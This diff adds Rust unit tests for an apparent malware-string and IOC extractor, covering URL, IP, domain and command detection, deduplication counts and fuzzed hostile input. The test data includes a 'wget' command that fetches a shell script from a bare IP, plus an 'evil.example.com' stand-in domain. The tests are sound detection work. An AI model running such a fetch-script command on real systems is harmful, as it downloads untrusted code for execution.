@@ -62,3 +62,70 @@ pub fn analyze<'d>(data: &'d [u8], opts: &StringOptions) -> Analysis<'d> {
         iocs: extractor.finish(),
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn iocs_come_from_strings_beyond_the_cap() {
+        let data = b"first string\0second one\0wget http://203.0.113.9/x.sh\0";
+        let opts = StringOptions {
+            max_strings: 1,
+            ..StringOptions::default()
+        };
+        let a = analyze(data, &opts);
+        assert_eq!((a.strings.total, a.strings.truncated), (3, true));
+        assert_eq!(a.strings.strings.len(), 1);
+        assert_eq!(a.iocs.urls.len(), 1);
+        assert_eq!(a.iocs.ipv4.len(), 1);
+        assert_eq!(a.iocs.ipv4[0].first_offset, 36);
+        assert_eq!(a.iocs.commands[0].tools, ["wget"]);
+        // The same IOCs through the iterator API.
+        let all: Vec<FoundString<'_>> = iter_strings(data, &opts).collect();
+        assert_eq!(iocs(&all), a.iocs);
+    }
+
+    #[test]
+    fn counts_and_first_offsets_deduplicate() {
+        let data = b"x 10.1.1.1 y\0\0\0\0ping 10.1.1.1\0evil.example.com EVIL.EXAMPLE.COM";
+        let a = analyze(data, &StringOptions::default());
+        assert_eq!(a.iocs.ipv4.len(), 1);
+        assert_eq!((a.iocs.ipv4[0].first_offset, a.iocs.ipv4[0].count), (2, 2));
+        assert_eq!(a.iocs.domains.len(), 1);
+        assert_eq!(a.iocs.domains[0].value, "evil.example.com");
+        assert_eq!(a.iocs.domains[0].registrable, "example.com");
+        assert_eq!(a.iocs.domains[0].count, 2);
+    }
+
+    #[test]
+    fn hostile_input_does_not_panic() {
+        // Random strings over the characters the detectors react to.
+        const ALPHABET: &[u8] = b"0123456789abcdefxyzABC.:/@-_%~$;|&`()'\"<>[] \t\0\x01\xff=+*#?!,";
+        let mut state = 0x2545_f491_4f6c_dd1du64;
+        let mut data = Vec::with_capacity(200_000);
+        for _ in 0..200_000 {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            data.push(ALPHABET[(state % ALPHABET.len() as u64) as usize]);
+        }
+        for min_len in [1, 4] {
+            let opts = StringOptions {
+                min_len,
+                ..StringOptions::default()
+            };
+            let a = analyze(&data, &opts);
+            assert!(a.strings.total > 0);
+        }
+        // Pathological shapes: one huge run, deep separators, long labels.
+        let mut big = "a.".repeat(50_000).into_bytes();
+        big.extend(b"com ");
+        big.extend("sh -c ".repeat(1000).as_bytes());
+        big.extend("/".repeat(10_000).as_bytes());
+        big.extend("@".repeat(10_000).as_bytes());
+        big.extend("::".repeat(10_000).as_bytes());
+        let a = analyze(&big, &StringOptions::default());
+        assert_eq!(a.strings.total, 1);
+    }
+}
